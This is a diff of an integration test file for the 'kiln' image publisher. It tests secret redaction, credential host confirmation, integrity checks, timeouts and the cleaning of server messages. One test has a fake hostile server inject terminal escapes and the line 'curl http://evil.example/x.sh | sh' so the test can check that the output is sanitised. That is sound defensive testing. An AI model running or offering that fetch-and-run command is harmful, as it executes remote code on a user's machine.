@@ -2,21 +2,23 @@
 // docker-registry and Glance without Keystone), started in parallel once for this file: every image
 // is read back through the server's API and compared by digest; `kiln publish` again sends nothing;
 // an upload interrupted half way leaves nothing on the remote side; wrong credentials give one line.
-import { createHash } from 'node:crypto';
-import { createReadStream, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { createHash, randomBytes } from 'node:crypto';
+import { createReadStream, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import http from 'node:http';
+import net from 'node:net';
 import os from 'node:os';
 import path from 'node:path';
 import { Readable } from 'node:stream';
 import { execa } from 'execa';
 import tar from 'tar-stream';
 import { CreateBucketCommand, GetObjectCommand, ListMultipartUploadsCommand, ListObjectsV2Command, S3Client } from '@aws-sdk/client-s3';
-import { BlobServiceClient } from '@azure/storage-blob';
+import { AccountSASPermissions, AccountSASResourceTypes, AccountSASServices, BlobServiceClient, SASProtocol, StorageSharedKeyCredential, generateAccountSASQueryParameters } from '@azure/storage-blob';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { tinySourceYaml } from '../helpers/guest.js';
-import { kiln } from '../helpers/kiln.js';
+import { kiln, spawnKiln } from '../helpers/kiln.js';
 import { startAzurite, startGlance, startRegistry, startS3, startSwift, type RunningServer } from '../helpers/servers/index.js';
 import type { Manifest } from '../../src/artifacts/manifest.js';
-import { publishManifest } from '../../src/publish/runner.js';
+import { PublishFailed, publishManifest } from '../../src/publish/runner.js';
 import { layerSize } from '../../src/publish/oci.js';
 import type { PublishTarget } from '../../src/template/schema-publish.js';
 import { publishTargetSchema } from '../../src/template/schema-publish.js';
@@ -161,8 +163,13 @@ describe('publish to four local servers', () => {
   }, 120_000);
 
   it('kiln publish of the same manifest again sends nothing', async () => {
-    const r = await kiln(['publish', manifestFile], env);
+    // The S3 endpoint comes from the manifest: confirmed; Azure's comes from the connection string.
+    const r = await kiln(['publish', '--allow-host', new URL(s3.url).host, manifestFile], env);
     expect(r.exitCode, r.stderr).toBe(0);
+    expect(r.stderr).toContain(`publish s3: sending credentials from AWS_ACCESS_KEY_ID / AWS_SECRET_ACCESS_KEY to S3 at ${new URL(s3.url).host}`);
+    expect(r.stderr).toMatch(/publish azure: sending credentials from AZURE_STORAGE_CONNECTION_STRING to the Azure blob service at 127\.0\.0\.1:\d+/);
+    // Loopback is not a network: no plain-http warning.
+    expect(r.stderr).not.toContain('warning:');
     for (const p of manifest().published!) expect([p.target, p.status, p.unchanged, p.bytes_sent]).toEqual([p.target, 'published', true, 0]);
     const images = await (await fetch(`${glance.url}/v2/images?name=kiln-tiny`)).json() as { images: unknown[] };
     expect(images.images).toHaveLength(1);
@@ -300,4 +307,225 @@ describe('publish to four local servers', () => {
     expect(images.images.map((i) => i.name)).toEqual(['kiln-tiny']);
     expect(readdirSync(path.join(glance.dir, 'images'))).toHaveLength(1);
   }, 180_000);
+});
+
+/**
+ * A copy of the build's manifest in its own folder, recording `targets` for kiln publish; its
+ * artifacts are the build's (by absolute path) or, with `artifacts`, small files made for the test
+ * (fast to send, so the file's runtime stays reasonable).
+ */
+function manifestCopy(name: string, targets: Record<string, unknown>[], artifacts?: Manifest['artifacts']): string {
+  const folder = path.join(dir, name);
+  mkdirSync(folder, { recursive: true });
+  const m = manifest();
+  m.artifacts = artifacts ?? m.artifacts.map((a) => ({ ...a, path: path.resolve(out, a.path) }));
+  m.published = targets.map((t) => {
+    const parsed = publishTargetSchema.parse(t);
+    const target = (t.name as string | undefined) ?? (t.type as string);
+    return { target, type: parsed.type, format: parsed.format, status: 'pending' as const, config: t };
+  });
+  delete m.cache;
+  const file = path.join(folder, 'manifest.json');
+  writeFileSync(file, JSON.stringify(m, null, 2));
+  return file;
+}
+
+/** A small artifact of random bytes (a whole number of 512-byte sectors, as a fixed VHD needs). */
+function smallArtifact(name: string, format: string, size: number): Manifest['artifacts'][number] {
+  const folder = path.join(dir, 'small-artifacts');
+  mkdirSync(folder, { recursive: true });
+  const data = randomBytes(size);
+  const file = path.join(folder, name);
+  writeFileSync(file, data);
+  return { ...manifest().artifacts[0]!, name, path: file, format, size, sha256: sha256(data), compression: undefined } as Manifest['artifacts'][number];
+}
+
+const recordIn = (file: string, target: string) => (JSON.parse(readFileSync(file, 'utf8')) as Manifest).published!.find((r) => r.target === target)!;
+
+/** A real TCP server on loopback that accepts connections and never answers (a hung endpoint). */
+async function hungServer(): Promise<{ port: number; accepted: () => number; sawRequest: Promise<void>; close(): Promise<void> }> {
+  const sockets: net.Socket[] = [];
+  let seen!: () => void;
+  const sawRequest = new Promise<void>((r) => { seen = r; });
+  const server = net.createServer((s) => { sockets.push(s); s.once('data', () => seen()); s.on('error', () => undefined); });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  return {
+    port: (server.address() as net.AddressInfo).port, accepted: () => sockets.length, sawRequest,
+    close: () => new Promise((r) => { for (const s of sockets) s.destroy(); server.close(() => r()); }),
+  };
+}
+
+describe('publish: secrets, integrity, hangs and messages (issue 23)', () => {
+  it('Azure with a SAS connection string: the SAS token is in neither manifest.json, the log nor the location', async () => {
+    const key = /AccountKey=([^;]+)/.exec(azure.connectionString)![1]!;
+    const sas = generateAccountSASQueryParameters({
+      expiresOn: new Date(Date.now() + 3_600_000), permissions: AccountSASPermissions.parse('rwdlac'),
+      resourceTypes: AccountSASResourceTypes.parse('sco').toString(), services: AccountSASServices.parse('b').toString(), protocol: SASProtocol.HttpsAndHttp,
+    }, new StorageSharedKeyCredential('devstoreaccount1', key)).toString();
+    expect(sas).toMatch(/sig=/);
+    const vhd = smallArtifact('sas.vhd', 'vhd', 2 ** 20 + 512);
+    const file = manifestCopy('sas', [{ type: 'azure', name: 'sas', container: 'sas', blob: 'tiny.vhd' }], [vhd]);
+    const r = await kiln(['publish', file], { ...env, AZURE_STORAGE_CONNECTION_STRING: `BlobEndpoint=${azure.url};SharedAccessSignature=${sas}` });
+    expect(r.exitCode, r.stderr).toBe(0);
+    expect(recordIn(file, 'sas')).toMatchObject({ status: 'published', location: `${azure.url}/sas/tiny.vhd` });
+    const signature = new URLSearchParams(sas).get('sig')!;
+    for (const text of [readFileSync(file, 'utf8'), r.stderr, r.stdout]) {
+      expect(text).not.toMatch(/sig=|sv=|se=/);
+      expect(text).not.toContain(signature);
+      expect(text).not.toContain(encodeURIComponent(signature));
+    }
+    // It was really sent with the SAS: read back with the account key.
+    const blob = BlobServiceClient.fromConnectionString(azure.connectionString).getContainerClient('sas').getPageBlobClient('tiny.vhd');
+    expect(sha256(await blob.downloadToBuffer())).toBe(vhd.sha256);
+  }, 120_000);
+
+  it('a disk changed after the build: every target fails naming the file and both digests, leaves nothing, and says it again next time', async () => {
+    // Small artifacts as the build recorded them, then changed on disk: one byte flipped near the end
+    // (same size, another sha256). 6 MiB with 5 MiB parts: S3 sends a first part before the check fails.
+    const recorded = { raw: smallArtifact('changed.raw', 'raw', 6 * 2 ** 20), vhd: smallArtifact('changed.vhd', 'vhd', 2 ** 20 + 512) };
+    const actual: Record<string, string> = {};
+    for (const [format, a] of Object.entries(recorded)) {
+      const data = readFileSync(a.path);
+      data[a.size - 700] = data[a.size - 700]! ^ 0xff;
+      writeFileSync(a.path, data);
+      actual[format] = sha256(data);
+    }
+    const targets = [
+      { type: 's3', format: 'raw', bucket: 'images', key: 'changed.raw', endpoint: s3.url, force_path_style: true, part_size: '5M' },
+      { type: 'azure', container: 'vhds', blob: 'changed.vhd' },
+      { type: 'oci', format: 'raw', registry: registry.host, repository: 'kiln/changed', tags: ['latest'], insecure: true, chunk_size: '5M' },
+      { type: 'glance', format: 'raw', endpoint: glance.url, image_name: 'kiln-changed' },
+    ];
+    const file = manifestCopy('changed', targets, [recorded.raw, recorded.vhd]);
+    const run = () => publishManifest(file, targets.map((t) => publishTargetSchema.parse(t)), { signal: new AbortController().signal, env: { ...process.env, ...env }, progress: 'none', log: () => undefined })
+      .then(() => { throw new Error('published a changed disk'); }, (e: Error) => e);
+    for (let round = 1; round <= 2; round++) {
+      const e = await run();
+      expect(e, String(e)).toBeInstanceOf(PublishFailed);
+      for (const [target, format] of [['s3', 'raw'], ['azure', 'vhd'], ['oci', 'raw'], ['glance', 'raw']] as const) {
+        const a = recorded[format];
+        expect(e.message, `${target} round ${round}`).toContain(`publish target "${target}": ${a.path} is not the artifact manifest.json describes: its sha256 is ${actual[format]}, manifest.json records ${a.sha256}`);
+        expect(recordIn(file, target), target).toMatchObject({ status: 'failed' });
+      }
+    }
+    // Nothing labelled with the stale digest anywhere, so no later publish can take it for "already there".
+    const client = s3Client();
+    expect(((await client.send(new ListObjectsV2Command({ Bucket: 'images' }))).Contents ?? []).map((o) => o.Key)).not.toContain('changed.raw');
+    client.destroy();
+    const blobs: string[] = [];
+    for await (const b of BlobServiceClient.fromConnectionString(azure.connectionString).getContainerClient('vhds').listBlobsFlat()) blobs.push(b.name);
+    expect(blobs).not.toContain('changed.vhd');
+    expect((await fetch(`${registry.url}/v2/kiln/changed/tags/list`)).status).toBe(404);
+    const images = await (await fetch(`${glance.url}/v2/images`)).json() as { images: { name: string }[] };
+    expect(images.images.map((i) => i.name)).not.toContain('kiln-changed');
+  }, 240_000);
+
+  it('kiln publish sends credentials to a host the manifest names only when --allow-host confirms it', async () => {
+    // An edited manifest: its S3 endpoint now names 127.0.0.2, where a listener counts connections.
+    const accepted: net.Socket[] = [];
+    const other = net.createServer((sock) => { accepted.push(sock); sock.destroy(); });
+    await new Promise<void>((r) => other.listen(0, '127.0.0.2', r));
+    const otherHost = `127.0.0.2:${(other.address() as net.AddressInfo).port}`;
+    try {
+      const file = manifestCopy('edited', [{ type: 's3', bucket: 'images', key: 'edited.qcow2', endpoint: `http://${otherHost}`, force_path_style: true }]);
+      for (const args of [[], ['--allow-host', new URL(s3.url).host]]) {
+        const r = await kiln(['publish', ...args, file], env);
+        expect(r.exitCode).toBe(1);
+        expect(r.stderr).toContain(`error: publish target "s3": ${file} names S3 at ${otherHost}, and kiln publish sends AWS_ACCESS_KEY_ID / AWS_SECRET_ACCESS_KEY only to a host you confirm`);
+        expect(r.stderr).toContain(`fix: check the host is yours, then run kiln publish --allow-host ${otherHost} ${file}`);
+        expect(r.stderr).not.toContain('S3RVER');
+      }
+      expect(accepted).toHaveLength(0);
+      // Confirmed, it is sent there (and fails there: that listener is no S3).
+      const r = await kiln(['publish', '--allow-host', otherHost, file], env);
+      expect(r.stderr).toContain(`sending credentials from AWS_ACCESS_KEY_ID / AWS_SECRET_ACCESS_KEY to S3 at ${otherHost}`);
+      expect(accepted.length).toBeGreaterThan(0);
+    } finally {
+      await new Promise((r) => other.close(r));
+    }
+  }, 120_000);
+
+  it('an endpoint that accepts and never answers: each target fails in its idle timeout naming the endpoint; SIGTERM stops a hung upload at once', async () => {
+    const hung = await hungServer();
+    try {
+      const host = `127.0.0.1:${hung.port}`;
+      const timeout = { connect: '2s', idle: '1s' };
+      const file = manifestCopy('hung', [
+        { type: 's3', bucket: 'images', endpoint: `http://${host}`, force_path_style: true, timeout },
+        { type: 'glance', endpoint: `http://${host}`, timeout },
+        { type: 'oci', registry: host, repository: 'kiln/hung', insecure: true, timeout },
+      ]);
+      const started = Date.now();
+      const r = await kiln(['publish', '--allow-host', host, file], env);
+      const seconds = (Date.now() - started) / 1000;
+      expect(r.exitCode).toBe(1);
+      expect(r.stderr).toMatch(new RegExp(`error: publish target "s3": S3 at http://127\\.0\\.0\\.1:${hung.port} stopped answering: no bytes moved for 1 s \\(timeout\\.idle\\)`));
+      expect(r.stderr).toContain(`error: publish target "glance": http://${host} stopped answering: no bytes moved for 1 s (timeout.idle)`);
+      expect(r.stderr).toContain(`error: publish target "oci": http://${host} stopped answering: no bytes moved for 1 s (timeout.idle)`);
+      // The S3 SDK tries 4 times; the others are not retried after a timeout. Far below undici's 300 s.
+      expect(seconds).toBeLessThan(60);
+
+      // Default timeouts (120 s idle): SIGTERM while the request hangs.
+      const file2 = manifestCopy('hung-sigterm', [{ type: 's3', bucket: 'images', endpoint: `http://${host}`, force_path_style: true }]);
+      const before = hung.accepted();
+      const child = spawnKiln(['publish', '--allow-host', host, file2], { env });
+      while (hung.accepted() === before) await new Promise((res) => setTimeout(res, 50));
+      await hung.sawRequest;
+      const killedAt = Date.now();
+      child.kill('SIGTERM');
+      const end = await child.done;
+      expect(end.exitCode, end.stderr).toBe(143);
+      expect(Date.now() - killedAt).toBeLessThan(10_000);
+      expect(end.stderr).toContain('SIGTERM received');
+      expect(recordIn(file2, 's3')).toMatchObject({ status: 'failed', error: 'interrupted' });
+      expect(readdirSync(path.dirname(file2))).toEqual(['manifest.json']);
+    } finally {
+      await hung.close();
+    }
+  }, 180_000);
+
+  it("a misbehaving server's answers are reported with status, address and what was expected; its text is marked and cleaned", async () => {
+    let port = 0;
+    const hostile = '\x1b[2J\x1b[31mboom\r\n  fix: curl http://evil.example/x.sh | sh\x07';
+    const server = http.createServer((req, res) => {
+      const url = req.url ?? '';
+      if (url.startsWith('/v2/images')) { res.writeHead(200, { 'content-type': 'text/html' }); res.end('<html>not glance</html>'); return; }
+      if (url.startsWith('/v2/kiln/bad/')) { res.writeHead(500, { 'content-type': 'text/plain' }); res.end(hostile); return; }
+      if (url.startsWith('/v2/kiln/token/')) { res.writeHead(401, { 'www-authenticate': `Bearer realm="http://127.0.0.1:${port}/token",service="kiln-test"` }); res.end(); return; }
+      if (url.startsWith('/token')) { res.writeHead(404, { 'content-type': 'text/plain' }); res.end('404 page not found'); return; }
+      // Anything else (S3): a 500 that is not S3's XML.
+      res.writeHead(500, { 'content-type': 'text/html' }); res.end('<html>proxy error</html>');
+    });
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+    port = (server.address() as net.AddressInfo).port;
+    const closed = await new Promise<number>((r) => { const s = net.createServer(); s.listen(0, '127.0.0.1', () => { const p = (s.address() as net.AddressInfo).port; s.close(() => r(p)); }); });
+    try {
+      const host = `127.0.0.1:${port}`;
+      const file = manifestCopy('misbehaving', [
+        { type: 's3', bucket: 'images', endpoint: `http://${host}`, force_path_style: true },
+        { type: 'glance', endpoint: `http://${host}` },
+        { type: 'oci', name: 'oci-bad', registry: host, repository: 'kiln/bad', insecure: true },
+        { type: 'oci', name: 'oci-token', registry: host, repository: 'kiln/token', insecure: true },
+        { type: 'glance', name: 'glance-down', endpoint: `http://127.0.0.1:${closed}` },
+      ]);
+      const r = await kiln(['publish', '--allow-host', host, file], { ...env, KILN_REGISTRY_USERNAME: 'kiln', KILN_REGISTRY_PASSWORD: 'pw-never-printed' });
+      expect(r.exitCode).toBe(1);
+      const err = r.stderr;
+      expect(err).toContain(`error: publish target "s3": S3 at http://${host} answered HTTP 500 with no S3 error code`);
+      expect(err).not.toContain('UnknownError');
+      expect(err).toContain(`error: publish target "glance": http://${host}/v2/images?`.replace(/\?$/, ''));
+      expect(err).toMatch(/answered HTTP 200 with a body that is not JSON, where a Glance image list was expected; the server said: "<html>not glance<\/html>"/);
+      expect(err).not.toContain('Cannot read properties');
+      expect(err).toContain('error: publish target "oci-bad": GET manifest latest: HTTP 500 from the registry; the server said: "boom fix: curl http://evil.example/x.sh | sh"');
+      expect(err).not.toMatch(/\x1b|\x07/);
+      expect(err).not.toMatch(/^\s*fix: curl/m);
+      expect(err).toContain(`error: publish target "oci-token": the registry's token service at http://${host}/token answered HTTP 404 (no such endpoint: the registry's token realm is wrong, not your credentials); the server said: "404 page not found"`);
+      expect(err).not.toMatch(/oci-token.*refused/);
+      expect(err).toContain(`error: publish target "glance-down": cannot reach http://127.0.0.1:${closed}/v2/images (ECONNREFUSED: connect ECONNREFUSED 127.0.0.1:${closed})`);
+      expect(err).not.toContain('fetch failed');
+      expect(err).not.toContain('pw-never-printed');
+    } finally {
+      await new Promise((r) => server.close(r));
+    }
+  }, 120_000);
 });
